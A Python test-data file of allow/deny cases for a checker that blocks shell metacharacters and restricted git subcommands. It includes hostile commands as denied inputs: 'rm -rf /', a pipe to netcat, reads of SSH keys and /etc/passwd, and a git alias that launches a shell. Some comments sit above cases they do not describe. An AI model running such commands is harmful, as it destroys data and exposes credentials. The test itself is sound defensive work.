"""What a shell would act on: operators, substitutions, redirections, globs, braces, history
expansion, comments, line continuations and an unquoted ~. No shell runs, so the same characters quoted
are literal and allowed.
"""

from tests.support.policy_cases.codes import ALLOW, APPROVE, DENY, I, X  # noqa: F401

ROWS = [
    # --- shell_metacharacter ---
    (I, "ls; rm -rf /", DENY, "shell_metacharacter"),
    (I, "ls ; id", DENY, "shell_metacharacter"),
    (I, "ls && id", DENY, "shell_metacharacter"),
    (I, "ls & id", DENY, "shell_metacharacter"),
    (I, "ls &", DENY, "shell_metacharacter"),
    (I, "ls || id", DENY, "shell_metacharacter"),
    (I, "ls | sh", DENY, "shell_metacharacter"),
    (I, "cat x | nc host 1", DENY, "shell_metacharacter"),
    (I, "ls |& cat", DENY, "shell_metacharacter"),
    (I, "ls\nid", DENY, "shell_metacharacter"),
    (I, "ls\n", DENY, "shell_metacharacter"),
    (I, "(ls)", DENY, "shell_metacharacter"),
    (I, "ls (x)", DENY, "shell_metacharacter"),
    (I, "{ ls; }", DENY, "shell_metacharacter"),
    (I, "ls {a,b}", DENY, "shell_metacharacter"),
    (I, "cat {/etc/passwd,x}", DENY, "shell_metacharacter"),
    (I, "find . -exec cat {} +", DENY, "shell_metacharacter"),
    (I, "!ls", DENY, "shell_metacharacter"),
    (I, "ls !!", DENY, "shell_metacharacter"),
    (I, "find . ! -name x", DENY, "shell_metacharacter"),
    (I, "ls $(id)", DENY, "shell_metacharacter"),
    (I, "ls `id`", DENY, "shell_metacharacter"),
    (I, "cat $HOME/.ssh/id_rsa", DENY, "shell_metacharacter"),
    (I, "cat ${HOME}", DENY, "shell_metacharacter"),
    (I, "ls $'\\x2f'", DENY, "shell_metacharacter"),
    (I, "cat <(id)", DENY, "shell_metacharacter"),
    (I, "ls >(id)", DENY, "shell_metacharacter"),
    (I, "cat < /etc/passwd", DENY, "shell_metacharacter"),
    (I, "ls > out.txt", DENY, "shell_metacharacter"),
    (I, "ls >> out.txt", DENY, "shell_metacharacter"),
    (I, "ls 2>&1", DENY, "shell_metacharacter"),
    (I, "ls 2> /dev/null", DENY, "shell_metacharacter"),
    (I, "cat <<EOF", DENY, "shell_metacharacter"),
    (I, "cat <<< x", DENY, "shell_metacharacter"),
    (I, "ls >| x", DENY, "shell_metacharacter"),
    (I, "ls &> x", DENY, "shell_metacharacter"),
    (I, "echo $((1+1))", DENY, "shell_metacharacter"),
    (I, "git log --format=%(describe)", DENY, "shell_metacharacter"),
    (I, "git log @{u}..", DENY, "shell_metacharacter"),
    (I, "git -c alias.x=!sh x", DENY, "shell_metacharacter"),
    (I, "git !sh", DENY, "shell_metacharacter"),
    (I, "ls --width=1;", DENY, "shell_metacharacter"),
    # Unquoted, a shell expands ~ (at the start of a word, after = or :) to a home directory; quoted,
    # the program gets a path starting with ~, which the path rules refuse as well.
    (I, "cat ~/.ssh/id_rsa", DENY, "shell_metacharacter"),
    (I, "ls ~", DENY, "shell_metacharacter"),
    (I, "ls ~root", DENY, "shell_metacharacter"),
    (I, "cat ~/x", DENY, "shell_metacharacter"),
    (I, "grep -f ~/x .", DENY, "shell_metacharacter"),
    (I, "find ~ -name x", DENY, "shell_metacharacter"),
    (I, "git log -- ~/x", DENY, "shell_metacharacter"),
    (I, "ls -- ~", DENY, "shell_metacharacter"),
    (I, "grep --file=~/x .", DENY, "shell_metacharacter"),
    (I, "ls x:~/y", DENY, "shell_metacharacter"),
    # No shell runs, so a quoted character is literal: the program gets exactly what a shell
    # would give it.
    (I, "l?", DENY, "shell_metacharacter"),
    (I, "l*", DENY, "shell_metacharacter"),
    (I, "[l]s", DENY, "shell_metacharacter"),
    (I, "ls *.py", DENY, "shell_metacharacter"),
    (I, "cat src/*.py", DENY, "shell_metacharacter"),
    (I, "ls a?", DENY, "shell_metacharacter"),
    (I, "ls [ab]", DENY, "shell_metacharacter"),
    (I, "grep -e x *", DENY, "shell_metacharacter"),
    (I, "ls #", DENY, "shell_metacharacter"),
    (I, "ls #x", DENY, "shell_metacharacter"),
    (I, "ls \\\nid", DENY, "shell_metacharacter"),  # backslash-newline
    (I, 'grep -e "$HOME" x', DENY, "shell_metacharacter"),
    (I, 'grep -e "`id`" x', DENY, "shell_metacharacter"),
    (I, 'grep -e "!!" x', DENY, "shell_metacharacter"),
    (I, 'grep -e "\\!" x', DENY, "shell_metacharacter"),
    # quoted, ( and ! are literal: git's pathspec magic, which never leaves the repository
    (I, "git log :!x", DENY, "shell_metacharacter"),
    (I, "git log @{u}", DENY, "shell_metacharacter"),
    (I, "find ! -name a", DENY, "shell_metacharacter"),
    (X, "pytest tests/test_a.py::TestX::test_y[1-2]", DENY, "shell_metacharacter"),  # [ unquoted: a shell glob
    # --- allowed ---
    # No shell runs, so a quoted character is literal: the program gets exactly what a shell
    # would give it.
    (I, "ls ';'", ALLOW, "allowed"),
    (I, 'ls ";"', ALLOW, "allowed"),
    (I, "ls \\;", ALLOW, "allowed"),
    (I, "grep -rn 'a|b' .", ALLOW, "allowed"),
    (I, "grep 'a&b' x", ALLOW, "allowed"),
    (I, "ls '`id`'", ALLOW, "allowed"),
    (I, "grep -rn 'foo$' .", ALLOW, "allowed"),
    (I, "grep -rn '$(id)' .", ALLOW, "allowed"),
    (I, "grep -e '{a,b}' x", ALLOW, "allowed"),
    (I, "grep -e '!!' x", ALLOW, "allowed"),
    (I, "grep -e '*' x", ALLOW, "allowed"),
    (I, "grep -e \\* x", ALLOW, "allowed"),
    (I, "grep -e '#x' x", ALLOW, "allowed"),
    (I, "grep -e \\#x x", ALLOW, "allowed"),
    (I, "grep -e 'a#b' x", ALLOW, "allowed"),
    (I, "grep -e a#b x", ALLOW, "allowed"),
    (I, 'grep -e "a|b;c&d<e>f(g)h{i}j*k?l[m]n#o~p" x', ALLOW, "allowed"),
    (I, 'grep -e "\\$HOME" x', ALLOW, "allowed"),
    (I, "git log '@{u}..' -- '*'", ALLOW, "allowed"),
    # quoted, ( and ! are literal: git's pathspec magic, which never leaves the repository
    (I, "git log ':(top)'", ALLOW, "allowed"),
    (I, "git log ':!x'", ALLOW, "allowed"),
    (I, "git log -n 3", ALLOW, "allowed"),
    (I, "git log -n3 --stat", ALLOW, "allowed"),
    (I, "git diff HEAD~1", ALLOW, "allowed"),
    (I, "git diff HEAD~1 -- src", ALLOW, "allowed"),
    (I, "git show HEAD~2:src/main.py", ALLOW, "allowed"),
    (I, "git status --short --branch", ALLOW, "allowed"),
    (I, "git ls-files -z", ALLOW, "allowed"),
    (I, "git log -L1,5:README.md", ALLOW, "allowed"),
    (I, "git --no-pager log -p -1", ALLOW, "allowed"),
    (I, "l's'", ALLOW, "allowed"),
    (I, "find . \\( -name a -o -name b \\)", ALLOW, "allowed"),
    (I, "find . '!' -name a", ALLOW, "allowed"),
    (I, 'l""s -la', ALLOW, "allowed"),
    (I, "ls a''", ALLOW, "allowed"),
    (I, "ls \\t", ALLOW, "allowed"),  # the word is `t`
    # --- subcommand_not_allowed ---
    # quoted, ( and ! are literal: git's pathspec magic, which never leaves the repository
    (I, "git commit -m x", DENY, "subcommand_not_allowed"),
    (I, "git config core.pager", DENY, "subcommand_not_allowed"),
    (I, "git difftool", DENY, "subcommand_not_allowed"),
    (I, "git archive -o /tmp/x HEAD", DENY, "subcommand_not_allowed"),
    # --- option_denied ---
    # quoted, ( and ! are literal: git's pathspec magic, which never leaves the repository
    (I, "git grep -O foo", DENY, "option_denied"),  # --open-files-in-pager runs a pager
    # --- subcommand_missing ---
    # quoted, ( and ! are literal: git's pathspec magic, which never leaves the repository
    (I, "git", DENY, "subcommand_missing"),
    (I, "git -P", DENY, "subcommand_missing"),
]
